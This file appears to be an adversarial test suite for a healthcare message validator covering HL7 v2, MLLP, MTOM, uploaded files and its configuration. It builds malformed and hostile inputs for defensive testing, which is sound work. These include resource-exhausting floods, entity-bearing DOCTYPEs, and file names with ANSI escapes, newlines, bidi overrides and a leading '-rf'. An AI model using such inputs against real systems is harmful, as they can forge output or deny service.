case("mtom-header-line-9mb", "one 9 MB header line", lambda: mtom([], []).replace(b"MIME-Version: 1.0", b"X-Long: " + b"v" * 9_000_000))
case("mtom-100k-empty-parts", "100,000 empty parts",
     lambda: mtom([], []).replace(b"--MIMEBoundary_h--", b"--MIMEBoundary_h\r\n\r\n\r\n" * 100_000 + b"--MIMEBoundary_h--"))
case("mtom-boundary-in-body", "the boundary text inside the SOAP body",
     lambda: mtom([], [], body=SOAP.replace("LeafClass", "--MIMEBoundary_h")))
case("mtom-part-is-mtom", "a part that is itself an MTOM package, nested 6 deep",
     lambda: (lambda: (lambda f: f(f, 6))(lambda f, n: mtom([("d@h", f(f, n - 1))], ["d@h"]) if n else PDF))())
case("mtom-part-over-embedded-limit", "a part over the 10 MB embedded limit",
     lambda: mtom([("d@h", pdf_of(10_500_000))], ["d@h"]), code="SIZE_LIMIT_EXCEEDED")
case("mtom-bad-pdf-part", "a part that claims PDF and is truncated", lambda: mtom([("d@h", PDF[:30])], ["d@h"]),
     code="EMBEDDED_FILE_INVALID")
case("mtom-cid-percent-encoding", "an include with percent-encoded and control characters",
     lambda: mtom([("d@h", PDF)], ["d%40h%0a%1b"]))

# ---------------------------------------------------------------------------------------
family("hl7v2")

case("hl7-1m-segments", "a million segments", lambda: ADT + "NTE|1\r" * 1_000_000, code="HL7_SEGMENT_COUNT_EXCEEDED")
case("hl7-field-29mb", "one 29 MB field", lambda: ADT + "NTE|1||" + "x" * 29_000_000 + "\r")
case("hl7-1m-repetitions", "a million repetitions of one field", lambda: ADT + "NTE|1||" + "a~" * 1_000_000 + "\r")
case("hl7-1m-components", "a million components", lambda: ADT.replace("TESTPATIENT^ALEX^Q", "^" * 1_000_000))
case("hl7-1m-subcomponents", "a million subcomponents", lambda: ADT.replace("TESTPATIENT^ALEX^Q", "&" * 1_000_000))
case("hl7-500k-bad-datetimes", "500,000 invalid datetimes", lambda: ADT + "OBX|1|TS|c||x||||||F|||2024133\r" * 500_000,
     code="DIAGNOSTICS_TRUNCATED")
case("hl7-escape-unterminated", "an escape sequence that never ends", lambda: ADT.replace("ALEX", "\\X41" + "4" * 100_000),
     code="HL7_ESCAPE_INVALID")
case("hl7-escape-1m", "a million escape sequences", lambda: ADT.replace("ALEX", "\\T\\" * 1_000_000))
case("hl7-escape-hex-odd", "a hex escape with an odd digit count", lambda: ADT.replace("ALEX", "\\X414\\"), code="HL7_ESCAPE_INVALID")
case("hl7-msh-only", "a bare MSH with no fields", lambda: "MSH|", code="HL7_ENCODING_CHARACTERS")
case("hl7-msh-same-delimiters", "encoding characters that repeat the field separator",
     lambda: ADT.replace("MSH|^~\\&", "MSH|||||"), code="HL7_ENCODING_CHARACTERS")
case("hl7-msh-nul-delimiters", "NUL bytes as delimiters", lambda: ADT.replace("MSH|^~\\&", "MSH\x00\x00\x00\x00\x00"))
case("hl7-msh-utf8-delimiters", "multi-byte delimiters", lambda: ADT.replace("MSH|^~\\&", "MSH\u00e9^~\\&"))
case("hl7-no-msh", "segments without MSH", lambda: "PID|1\rPV1|1\r", args=["--traffic", "hl7v2-mllp"], code="HL7_MSH_MISSING")
case("hl7-lf-terminators", "line feeds instead of carriage returns", lambda: ADT.replace("\r", "\n"), code="HL7_SEGMENT_TERMINATOR_LF")
case("hl7-segment-id-ansi", "a segment id holding ANSI codes and a newline", lambda: ADT + "\x1b[32m|x\r\n\x1b[0mvalid\r",
     code="HL7_SEGMENT_ID_INVALID", human=True)
case("hl7-version-1mb", "a 1 MB version id", lambda: ADT.replace("|P|2.5.1", "|P|" + "9" * MB), code="HL7_VERSION_UNKNOWN")
case("hl7-message-type-1mb", "a 1 MB message type", lambda: ADT.replace("ADT^A01^ADT_A01", "Q" * MB),
     code="HL7_UNKNOWN_MESSAGE_TYPE")
case("hl7-msh7-garbage", "a message datetime of every bad form", lambda: ADT.replace("20240312083015-0500", "2024021-9999.12345678"))
case("hl7-ts-precision-abuse", "TS.2 degree of precision with garbage", lambda: ADT.replace("20240312083015-0500", "20240312083015^QQQQ"),
     code="DATETIME_INVALID_PRECISION_COMPONENT")
case("hl7-z-segments-100k", "100,000 Z segments", lambda: ADT + "ZZZ|1\r" * 100_000, code="HL7_Z_SEGMENT")
case("hl7-segment-order-chaos", "the segments in reverse order", lambda: "\r".join(reversed(ADT.strip("\r").split("\r")[1:]))
     + "\r" + ADT.split("\r")[0] + "\r", args=["--traffic", "hl7v2-mllp"])
for count in ("-1", "99999999999999999999999", "2.0", "two", "+2", "0x2"):
    a = ADT
    case(f"hl7-bts-count-{count}", f"BTS-1 of {count!r} must not pass as the right count (issue 14)",
         lambda a=a, count=count: f"FHS|^~\\&|S|F\rBHS|^~\\&|S|F\r{a}{a}BTS|{count}\rFTS|1\r", code="HL7_BATCH_COUNT", exits=(1,))
for count in ("-1", "99999999999999999999999", "1e0"):
    case(f"hl7-fts-count-{count}", f"FTS-1 of {count!r} must not pass as the right count (issue 14)",
         lambda count=count: f"FHS|^~\\&|S|F\rBHS|^~\\&|S|F\r{ADT}BTS|1\rFTS|{count}\r", code="HL7_BATCH_COUNT", exits=(1,))
case("hl7-batch-100k-bhs", "100,000 empty batches", lambda: "FHS|^~\\&|S|F\r" + "BHS|^~\\&|S|F\rBTS|0\r" * 100_000 + "FTS|100000\r")
case("hl7-batch-unclosed-nested", "BHS inside BHS, BTS without BHS",
     lambda: f"BHS|^~\\&\rBHS|^~\\&\r{ADT}BTS|1\rBTS|1\rFTS|1\r", code="HL7_BATCH_STRUCTURE")
case("hl7-batch-200k-messages", "a batch of 200,000 messages",
     lambda: "FHS|^~\\&|S|F\rBHS|^~\\&|S|F\r" + ADT * 100_000 + "BTS|100000\rFTS|1\r", out_max=400 * MB, time_s=60)
case("hl7-field-repeat-flood-datetimes", "a datetime field repeated 500,000 times",
     lambda: ADT.replace("|19800214|", "|" + "~".join(["19800214"] * 500_000) + "|"))

# ---------------------------------------------------------------------------------------
family("mllp")

msg = ADT.encode()
case("mllp-start-only", "a start byte and nothing else", lambda: b"\x0b", args=["--traffic", "hl7v2-mllp"])
case("mllp-end-missing-29mb", "a 29 MB frame that never ends", lambda: b"\x0b" + msg + b"NTE|1|" + b"x" * 29_000_000,
     code="HL7_MLLP_END_BLOCK_MISSING")
case("mllp-end-without-cr", "an end block without its carriage return", lambda: b"\x0b" + msg + b"\x1c", code="HL7_MLLP_END_BLOCK_INVALID")
case("mllp-bytes-between", "bytes between frames", lambda: mllp(msg) + b"garbage" + mllp(msg), code="HL7_MLLP_BYTES_BETWEEN_FRAMES")
case("mllp-start-bytes-inside", "start bytes inside a frame", lambda: b"\x0b" + msg.replace(b"ALEX", b"\x0b\x0b") + b"\x1c\r")
case("mllp-100k-frames", "100,000 frames", lambda: mllp(msg) * 100_000, out_max=300 * MB, time_s=60)
case("mllp-500k-empty-frames", "500,000 empty frames", lambda: b"\x0b\x1c\r" * 500_000, out_max=400 * MB, time_s=60,
     )
case("mllp-nested-frames", "frames inside frames", lambda: b"\x0b\x0b\x0b" + msg + b"\x1c\r\x1c\r\x1c\r")
case("mllp-only-end-blocks", "1 MB of end blocks", lambda: b"\x1c\r" * 500_000, args=["--traffic", "hl7v2-mllp"])
case("mllp-frame-binary", "a frame of random-looking binary", lambda: b"\x0b" + bytes(range(256)) * 1000 + b"\x1c\r")

# ---------------------------------------------------------------------------------------
family("files")

up = ["--traffic", "uploaded-file"]
case("pdf-truncated", "a PDF cut before %%EOF", lambda: PDF[:40], args=up, code="FILE_TRUNCATED")
case("pdf-header-only-29mb", "a 29 MB PDF without trailer", lambda: PDF[:9] + b"x" * 29_000_000, args=up, code="FILE_TRUNCATED")
case("png-truncated", "a PNG signature and a cut IHDR", lambda: PNG_SIG + b"\x00\x00\x00\x0dIHDR\x00", args=up,
     code="FILE_TRUNCATED")
case("png-chunk-length-4g", "a PNG chunk claiming 4 GB", lambda: PNG_SIG + b"\xff\xff\xff\xffIHDR" + b"\x00" * 100, args=up)
case("png-1m-chunks", "a million empty PNG chunks", lambda: PNG_SIG + b"\x00\x00\x00\x00tEXt\x00\x00\x00\x00" * 1_000_000, args=up)
case("jpeg-markers-only", "a JPEG of SOI and nothing else", lambda: b"\xff\xd8", args=up)
case("jpeg-segment-length-lies", "a JPEG segment longer than the file", lambda: b"\xff\xd8\xff\xe0\xff\xff" + b"\x00" * 100, args=up)
case("jpeg-1m-fill-bytes", "a million 0xFF fill bytes", lambda: b"\xff\xd8" + b"\xff" * 1_000_000, args=up)
case("tiff-ifd-loop", "a TIFF whose IFD points to itself", lambda: b"II*\x00\x08\x00\x00\x00\x01\x00" + b"\x00" * 12 + b"\x08\x00\x00\x00",
     args=up)
case("tiff-ifd-count-65535", "a TIFF IFD claiming 65,535 entries", lambda: b"MM\x00*\x00\x00\x00\x08\xff\xff" + b"\x00" * 100, args=up)
case("tiff-offset-4g", "a TIFF IFD offset past the end", lambda: b"II*\x00\xff\xff\xff\xff", args=up)
case("dicom-preamble-only", "a DICOM preamble without elements", lambda: b"\x00" * 128 + b"DICM", args=up)
case("dicom-length-4g", "a DICOM element claiming 4 GB", lambda: b"\x00" * 128 + b"DICM\x02\x00\x00\x00UL\x04\x00\xff\xff\xff\xff", args=up)
case("zip-eocd-lies", "a ZIP end record claiming 65,535 entries at a far offset",
     lambda: b"PK\x03\x04" + b"\x00" * 26 + b"PK\x05\x06\x00\x00\x00\x00\xff\xff\xff\xff\xff\xff\xff\xff\xff\xff\x00\x00", args=up)
case("zip-comment-64k", "a ZIP with a 64 KB comment and no end record", lambda: b"PK\x03\x04" + b"\x00" * 65_600, args=up)
case("file-unknown-signature", "an upload of no known kind", lambda: b"\x7fELF" + b"\x00" * 1000, args=up, code="FILE_SIGNATURE_UNKNOWN")
case("file-empty", "an empty upload", lambda: b"", args=up, code="EMPTY_PAYLOAD")
case("file-over-limit-by-one", "one byte over the uploaded-file limit", lambda: PDF[:9] + b"x" * (30_000_001 - 9), args=up,
     code="SIZE_LIMIT_EXCEEDED")
case("file-at-limit", "exactly at the uploaded-file limit", lambda: pdf_of(30_000_000)[:30_000_000], args=up)
case("file-cda-with-doctype", "an uploaded CDA with a DOCTYPE",
     lambda: '<!DOCTYPE ClinicalDocument [<!ENTITY x "y">]>' + CDA_HEAD + CDA_TAIL, args=up, code="XML_DOCTYPE_REJECTED")
case("other-over-limit", "11 MB of text on the other channel", lambda: b"t" * 11_000_000, args=["--traffic", "other"],
     code="SIZE_LIMIT_EXCEEDED")
case("embedded-hint-on-mllp", "an embedded-file hint on HL7 content", lambda: ADT, args=["--traffic", "embedded-file"])

# ---------------------------------------------------------------------------------------
family("names")

ok = fhir('"birthDate":"1980-01-01"')
for label, fname in (
    ("newline", b"a\nvalid: b.json"),
    ("ansi", b"\x1b[32mOK\x1b[0m.json"),
    ("carriage-return", b"x\r\x1b[2Kvalid.json"),
    ("bidi-override", "report\u202enosj.txt".encode()),
    ("not-utf8", b"\xff\xfe\x80.json"),
    ("255-bytes", b"n" * 250 + b".json"),
    ("leading-dash", b"-rf.json"),
    ("spaces-and-quotes", b"a \"b\" 'c' \\d.json"),
    ("unicode-separators", "a\u2028b\u2029c.json".encode()),
    ("tab-and-del", b"a\tb\x7fc.json"),
):
    case(f"name-{label}", f"a file name holding {label.replace('-', ' ')}: output must not be forged", lambda: ok,
         file_name=fname, human=True,
         )

# ---------------------------------------------------------------------------------------
family("config")



def cfg(label, attacks, text, exits=(2,), **kw):
    case(f"config-{label}", attacks, lambda: ok, config=text, exits=exits, **kw)


cfg("not-toml", "a configuration that is not TOML", lambda: "this is [not toml")
cfg("binary", "a configuration of random bytes", lambda: "\x00\x01\x02\xff")
cfg("limit-negative", "a negative size limit", lambda: "[limits]\nredox_api = -1\n")
cfg("limit-huge", "a size limit past u64", lambda: "[limits]\nredox_api = 99999999999999999999999\n")
cfg("limit-string", "a size limit of the wrong type", lambda: "[limits]\nredox_api = \"big\"\n")
cfg("bounds-zero", "every bound set to zero",
    lambda: "[bounds]\ndiagnostics_per_report = 0\ndatetimes_per_report = 0\nfindings_per_report = 0\n", exits=(0, 1, 2))
cfg("bounds-float", "a bound given as a float", lambda: "[bounds]\ndiagnostics_per_report = 1.5\n")
cfg("unknown-table", "an unknown table", lambda: "[nonsense]\nx = 1\n")
cfg("unknown-key", "an unknown key", lambda: "[bounds]\nnot_a_bound = 1\n")
cfg("zone-invalid", "a profile zone that does not exist",
    lambda: '[sources.a]\npaths = ["x/"]\ntimezone = "Mars/Olympus"\n')
cfg("zone-1mb", "a 1 MB zone name", lambda: "[source]\ntimezone = \"" + "Z" * MB + "\"\n")
cfg("profiles-100k", "100,000 profiles",
    lambda: "".join(f'[sources.p{i}]\npaths = ["/nowhere/{i}/"]\n' for i in range(100_000)), exits=(0, 1, 2), rss_mb=400)
cfg("deep-inline-tables", "inline tables nested 100,000 deep", lambda: "x = " + "{a=" * 100_000 + "1" + "}" * 100_000 + "\n")
cfg("deep-arrays", "arrays nested 100,000 deep", lambda: "x = " + "[" * 100_000 + "]" * 100_000 + "\n")
cfg("control-chars-in-name", "a profile name holding ANSI codes and newlines",
    lambda: '[sources."\\u001b[31m\\nvalid"]\npaths = ["x/"]\ntimezone = "Mars\\u001b[2J"\n')
cfg("severity-unknown-code", "a severity override for a code that does not exist", lambda: '[severity]\nNOT_A_CODE = "off"\n')
cfg("severity-bad-level", "a severity override with a level that does not exist", lambda: '[severity]\nJSON_SYNTAX_ERROR = "fatal"\n')
cfg("dst-policy-unknown", "an unknown DST policy", lambda: '[source]\ndst_policy = "sometimes"\n')
cfg("environment-unknown", "an unknown destination environment", lambda: 'destination_environment = "moon"\n')
cfg("10mb-comment", "a 10 MB comment", lambda: "#" + "c" * 10_000_000 + "\n", exits=(0, 1, 2))
cfg("duplicate-keys", "a key given twice", lambda: "[bounds]\nembedded_depth = 1\nembedded_depth = 2\n")
cfg("embedded-depth-300", "an embedded depth past u8", lambda: "[bounds]\nembedded_depth = 300\n")
cfg("utf8-bom", "a configuration starting with a byte order mark", lambda: "\ufeff[bounds]\nembedded_depth = 2\n", exits=(0, 1, 2))

# ---------------------------------------------------------------------------------------
family("policy")

POLICY_IDENTITIES = (
    'strict_sources = true\n'
    '[sources.lab.identity]\nhl7_sending_facility = ["LAB"]\n'
    '[sources.clinic]\ntimezone = "Asia/Tokyo"\n[sources.clinic.identity]\nhl7_sending_facility = ["CLINIC"]\n'
)


def hl7_from(facility, control):
    return ("MSH|^~\\&|APP|" + facility + "|EHR|HOSP|20240312083015||ADT^A01^ADT_A01|" + control
            + "|P|2.5.1\rEVN|A01\rPID|1||1^^^GH^MR||X^Y\rPV1|1|I\r").encode()


case("policy-every-message-another-sender", "a capture of 100,000 messages, each from another sender (issue 12)",
     lambda: b"".join(mllp(hl7_from(["LAB", "CLINIC", f"X{i}"][i % 3], str(i))) for i in range(100_000)),
     config=POLICY_IDENTITIES, code="SOURCE_UNKNOWN", out_max=300 * MB, time_s=60)
case("policy-100k-destinations", "a Redox message naming 100,000 destinations under a destination rule",
     lambda: "{" + REDOX_META.replace('"Meta":{', '"Meta":{"Destinations":['
                                      + ",".join(f'{{"ID":"d{i}"}}' for i in range(100_000)) + "],", 1) + "}",
     config='[sources.api]\npaths = ["."]\ndestinations = ["d0"]\n', code="SOURCE_DESTINATION_DENIED")
case("policy-1mb-identity", "a 1 MB sending facility under a profile that names its sender",
     lambda: hl7_from("F" * MB, "1"),
     config='[sources.lab]\npaths = ["."]\n[sources.lab.identity]\nhl7_sending_facility = ["LAB"]\n',
     code="SOURCE_IDENTITY_MISMATCH")
case("policy-control-chars-in-identity", "escaped control characters and ANSI codes in MSH-4",
     lambda: hl7_from("\\X1B\\[32mLAB\\X0A\\valid", "1"),
     config='[sources.lab]\npaths = ["."]\n[sources.lab.identity]\nhl7_sending_facility = ["LAB"]\n',
     code="SOURCE_IDENTITY_MISMATCH", human=True)
case("policy-two-profiles-claim", "one sender that two profiles claim by different fields",
     lambda: hl7_from("LAB", "1"),
     config='[sources.a.identity]\nhl7_sending_facility = ["LAB"]\n[sources.b.identity]\nhl7_sending_application = ["APP"]\n',
     code="SOURCE_IDENTITY_AMBIGUOUS")
cfg("policy-identity-twice", "two profiles claiming the same identity",
    lambda: '[sources.a.identity]\nredox_source_id = ["k"]\n[sources.b.identity]\nredox_source_id = ["k"]\n')
cfg("policy-empty-identity", "an empty identity", lambda: '[sources.a.identity]\nhl7_sending_facility = [""]\n')
cfg("policy-control-identity", "an identity holding control characters",
    lambda: '[sources.a.identity]\nsaml_issuer = ["CN=\\u001b[2J"]\n')
cfg("policy-1mb-identity-config", "a 1 MB identity in the configuration",
    lambda: '[sources.a.identity]\nwsa_from = ["' + "w" * MB + '"]\n')
cfg("policy-100k-destinations-config", "a destination list of 100,000 entries",
    lambda: '[sources.a]\ndestinations = [' + ",".join(f'"d{i}"' for i in range(100_000)) + "]\n", exits=(0, 1, 2))
cfg("policy-unknown-pattern", "a pattern that does not exist", lambda: '[sources.a]\npatterns = ["broadcast"]\n')

# ---------------------------------------------------------------------------------------
family("stdin")
case("stdin-mixed-garbage", "random bytes on standard input", lambda: bytes((i * 7919) % 251 for i in range(2 * MB)), stdin=True)
case("stdin-empty", "nothing on standard input", lambda: b"", stdin=True, code="EMPTY_PAYLOAD")
